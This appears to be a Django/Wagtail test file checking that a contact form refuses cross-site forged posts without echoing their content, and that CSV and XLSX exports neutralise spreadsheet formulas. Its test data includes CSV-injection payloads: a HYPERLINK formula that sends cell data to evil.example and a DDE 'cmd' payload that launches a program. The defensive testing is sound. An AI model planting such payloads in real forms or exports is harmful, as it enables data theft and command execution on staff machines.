"""A forged post is not echoed into the contact form (fault 7), and the CSV
export of contact messages runs no formula a visitor wrote (fault 10)."""

import csv
import io

from django.contrib.auth.models import Group
from django.test import Client, TestCase
from django.urls import reverse

from bs4 import BeautifulSoup
from openpyxl import load_workbook

from tests.factories.editorial import make_user
from tests.factories.home import ContactPageFactory, make_home

MESSAGE = {
    "your_name": "Amina",
    "your_email_address": "amina@example.org",
    "your_message": "Call us now on +32 000 00 00, your account is closed.",
}


class ContactSite:
    @classmethod
    def setUpTestData(cls):
        cls.home = make_home()
        cls.page = ContactPageFactory(parent=cls.home)


class RefusedPostTests(ContactSite, TestCase):
    """CSRF_FAILURE_VIEW shows the contact form again after a refused post."""

    def setUp(self):
        self.client = Client(enforce_csrf_checks=True)

    def refused(self, **headers):
        response = self.client.post("/en/contact/", MESSAGE, headers=headers)
        self.assertEqual(response.status_code, 403)
        self.assertContains(response, "Your message could not be sent", status_code=403)
        html = BeautifulSoup(response.content, "html.parser")
        self.assertIsNotNone(html.select_one("input[name=csrfmiddlewaretoken]"))
        return html

    def test_a_cross_site_post_gets_the_empty_form(self):
        for headers in [
            {"Origin": "https://evil.example"},
            {"Origin": "null"},
            {"Origin": "http://testserver.evil.example"},
            {"Referer": "https://evil.example/en/contact/"},
            {"Origin": "https://evil.example", "Referer": "http://testserver/en/"},
            {"Referer": "http://[::1"},
            {},
        ]:
            with self.subTest(headers=headers):
                html = self.refused(**headers)
                self.assertEqual(html.select_one("#id_your_message").text.strip(), "")
                self.assertFalse(html.select_one("#id_your_name").get("value"))
                self.assertNotIn("account is closed", str(html))

    def test_a_post_from_this_site_comes_back_filled_in(self):
        for headers in [
            {"Origin": "http://testserver"},
            {"Referer": "http://testserver/en/contact/"},
        ]:
            with self.subTest(headers=headers):
                html = self.refused(**headers)
                self.assertEqual(
                    html.select_one("#id_your_message").text.strip(),
                    MESSAGE["your_message"],
                )
                self.assertEqual(html.select_one("#id_your_name")["value"], "Amina")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


class ExportTests(ContactSite, TestCase):
    def test_csv_export_quotes_what_a_spreadsheet_would_run(self):
        for text in FORMULAS:
            response = self.client.post(
                "/en/contact/",
                {**MESSAGE, "your_name": text, "your_message": text},
            )
            self.assertContains(response, "Thank you, your message was sent")
        self.client.post("/en/contact/", MESSAGE)

        staff = make_user("staff")
        staff.groups.add(Group.objects.get(name="Communications staff"))
        self.client.force_login(staff)
        url = reverse("wagtailforms:list_submissions", args=[self.page.pk])
        response = self.client.get(url, {"export": "csv"})
        self.assertEqual(response.status_code, 200)
        body = b"".join(response.streaming_content).decode()
        rows = list(csv.DictReader(io.StringIO(body)))
        self.assertEqual(len(rows), len(FORMULAS) + 1)
        for row, text in zip(rows, FORMULAS, strict=False):
            # The form strips the tab and carriage return, not what follows.
            self.assertEqual(row["Your message"], "'" + text.strip())
            self.assertEqual(row["Your name"], "'" + text.strip())
        self.assertEqual(rows[-1]["Your message"], MESSAGE["your_message"])
        for row in rows:
            for value in row.values():
                self.assertFalse(value.startswith(("=", "+", "-", "@", "\t", "\r")))

    def test_xlsx_export_keeps_formulas_as_text(self):
        self.client.post("/en/contact/", {**MESSAGE, "your_message": FORMULAS[0]})
        staff = make_user("staff")
        staff.groups.add(Group.objects.get(name="Communications staff"))
        self.client.force_login(staff)
        url = reverse("wagtailforms:list_submissions", args=[self.page.pk])
        response = self.client.get(url, {"export": "xlsx"})
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        self.assertIn(FORMULAS[0], [cell.value for cell in cells])
        self.assertFalse(any(cell.data_type == "f" for cell in cells))
